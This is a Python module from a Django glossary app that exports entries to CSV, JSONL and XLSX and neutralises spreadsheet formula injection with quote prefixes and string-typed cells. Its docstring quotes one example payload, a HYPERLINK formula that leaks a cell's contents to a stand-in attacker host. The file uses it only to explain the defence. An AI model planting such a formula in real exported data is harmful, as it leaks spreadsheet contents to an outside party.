"""Glossary export (CSV, JSONL, XLSX), safe to open in a spreadsheet and read back by the importer.

Formula injection (OWASP "CSV injection"): a cell that begins with ``= + - @``, a tab or a carriage return is
run as a formula by spreadsheet software (``=HYPERLINK("http://evil.example/?leak="&A2)``). The exporter
prefixes such a text with one single quote (and a text that already begins with quotes followed by one of
those characters gets one more quote), and writes XLSX cells as strings, never formulas. The importer of the
plain CSV/XLSX formats removes exactly that one quote, and only from a cell of that shape, so re-importing an
export gives back the original text.
"""
from __future__ import annotations

import csv
import io
import json
import re

from django.utils.translation import gettext as _

from glossary import selectors
from glossary.models import Entry
from glossary.readers import ImportRefused
from glossary.text import strip_forbidden_characters

EXPORT_FORMATS = ("csv", "jsonl", "xlsx")
# Columns of the plain formats, in export order; only term and definition are required on import.
COLUMNS = ("term", "definition", "domain", "kind", "variants", "contexts", "examples", "status", "source", "source_url", "split")
# Separates the items of a list column (variants, contexts) in CSV and XLSX cells.
LIST_SEPARATOR = " | "
_FORMULA_TRIGGERS = "=+-@\t\r"
# Quotes then a trigger: the shape of a neutralised cell (and of a text that needs one more quote).
_NEUTRALISED = re.compile(f"^'*[{re.escape(_FORMULA_TRIGGERS)}]")


def neutralise_formula(text: str) -> str:
    """The cell text a spreadsheet shows as text, never runs: ``=1+1`` -> ``'=1+1``."""
    return f"'{text}" if _NEUTRALISED.match(text) else text


def restore_formula(cell: str) -> str:
    """The inverse of neutralise_formula: ``'=1+1`` -> ``=1+1``; any other cell is returned as it is."""
    return cell[1:] if cell.startswith("'") and _NEUTRALISED.match(cell) else cell


def export_glossary(*, file_format: str) -> bytes:
    """Every entry, in a file that import_file reads back into the same glossary."""
    if file_format not in EXPORT_FORMATS:
        raise ImportRefused(_("Unknown export format: %(format)s (possible formats: %(formats)s).") % {"format": file_format, "formats": ", ".join(EXPORT_FORMATS)})
    records = [_clean(export_record(entry)) for entry in selectors.entries_for_export().iterator(chunk_size=2000)]
    if file_format == "jsonl":
        return "".join(json.dumps(record, ensure_ascii=False) + "\n" for record in records).encode("utf-8")
    rows = [[neutralise_formula(cell) for cell in _cells(record)] for record in records]
    if file_format == "csv":
        buffer = io.StringIO(newline="")
        writer = csv.writer(buffer, lineterminator="\n")
        writer.writerow(COLUMNS)
        writer.writerows(rows)
        # The byte order mark lets spreadsheet software recognise UTF-8 (accents).
        return buffer.getvalue().encode("utf-8-sig")
    return _xlsx(rows)


def export_record(entry: Entry, *, domain_name: str | None = None) -> dict:
    if domain_name is None and entry.domain_id:
        domain_name = entry.domain.name
    return {
        "term": entry.term,
        "definition": entry.definition,
        "domain": domain_name or "",
        "kind": entry.kind,
        "variants": list(entry.variants),
        "contexts": list(entry.contexts),
        "examples": list(entry.examples),
        "status": entry.status,
        "source": entry.source,
        "source_url": entry.source_url,
        "split": entry.split,
    }


def _clean(value):
    """Rows stored before control characters were refused are exported without them, so that one such
    row cannot break the export (XLSX cannot hold them, and a lone surrogate cannot be encoded)."""
    if isinstance(value, str):
        return strip_forbidden_characters(value)
    if isinstance(value, list):
        return [_clean(item) for item in value]
    if isinstance(value, dict):
        return {key: _clean(item) for key, item in value.items()}
    return value


def _cells(record: dict) -> list[str]:
    cells = {
        **record,
        "variants": LIST_SEPARATOR.join(record["variants"]),
        "contexts": LIST_SEPARATOR.join(record["contexts"]),
        "examples": json.dumps(record["examples"], ensure_ascii=False) if record["examples"] else "",
    }
    return [str(cells[column] or "") for column in COLUMNS]


def _xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("glossaire")
    sheet.append(list(COLUMNS))
    for row in rows:
        cells = []
        for text in row:
            cell = WriteOnlyCell(sheet, value=text)
            # openpyxl takes any text beginning with "=" for a formula: force a string cell.
            cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
